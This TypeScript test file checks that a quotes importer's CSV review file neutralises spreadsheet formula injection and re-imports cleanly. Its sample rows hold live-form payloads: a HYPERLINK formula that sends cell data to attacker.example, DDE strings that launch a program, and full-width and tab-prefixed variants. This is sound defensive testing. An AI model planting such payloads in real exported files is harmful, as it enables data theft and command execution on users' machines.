import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import type { TestDatabase } from '@quotes/database/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importCorpusFile } from '../src/import/importCorpus.js';
import { databaseAndFolder } from './support/databaseAndFolder.js';

let database: TestDatabase;
let directory: string;
beforeAll(async () => ({ database, directory } = await databaseAndFolder('corpus-review-formulas-')));
afterAll(() => database?.drop());

// Texts and authors a spreadsheet would run as formulas; no era, so every row goes to the review file.
const rows = [
  ['=HYPERLINK("http://attacker.example/?"&A1,"open me")', 'Ilse Marrowby'],
  ['+1+cmd|" /C calc"!A0 is what the river said', 'Odalys Fenwright'],
  ['-2+3 and the rest of the evening went the same way', 'Tobias Quill'],
  ['@SUM(1+1)*cmd|" /C calc"!A0 was written on the wall', 'Hester Vane'],
  ['\uFF1D1+1 in full-width, which some spreadsheets read too', 'Corwin Ash'],
  ['The lamp is lit by another lamp and loses nothing.', '=cmd|" /C calc"!A0'],
  ['Patience keeps its own calendar and nobody reads it.', '@attacker'],
  ['A tab before the sign hides it from a careless check.', '\t=1+1'],
] as const;

describe('the review file in a spreadsheet', () => {
  it('holds no cell a spreadsheet would run, and re-imports to the same quotes', async () => {
    const collection = join(directory, 'formulas.csv');
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    await writeFile(
      collection,
      ['quote,author,tags', ...rows.map(([text, author]) => `${quoted(text)},${quoted(author)},nature`)].join('\n'),
    );
    const review = join(directory, 'review.csv');
    const first = await importCorpusFile(database, collection, { reviewFile: review });
    expect(first.imported).toBe(rows.length);
    expect(first.review?.rows).toBe(rows.length);

    const cells = parseCsv(await readFile(review), { columns: true }) as Record<string, string>[];
    expect(cells).toHaveLength(rows.length);
    for (const row of cells)
      for (const [column, cell] of Object.entries(row))
        expect(cell, `${column}: ${cell}`).not.toMatch(/^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/u);
    const stored = await database.db.selectFrom('quotes').select(['id', 'text', 'author']).orderBy('id').execute();
    const byId = new Map(cells.map((row) => [row.id, row]));
    for (const quote of stored) {
      const row = byId.get(quote.id)!;
      for (const [column, value] of [
        ['text', quote.text],
        ['author', quote.author],
      ] as const)
        expect(row[column]).toBe(/^\s*[=+\-@\uFF1D]/u.test(value) ? `'${value}` : value);
    }

    // The operator saves the file unchanged and imports it again: the same texts, not `'=...`.
    const again = await importCorpusFile(database, review, { mode: 'append' });
    expect(again.invalid).toBe(0);
    const after = await database.db.selectFrom('quotes').select(['id', 'text', 'author']).orderBy('id').execute();
    expect(after).toEqual(stored);
  });
});
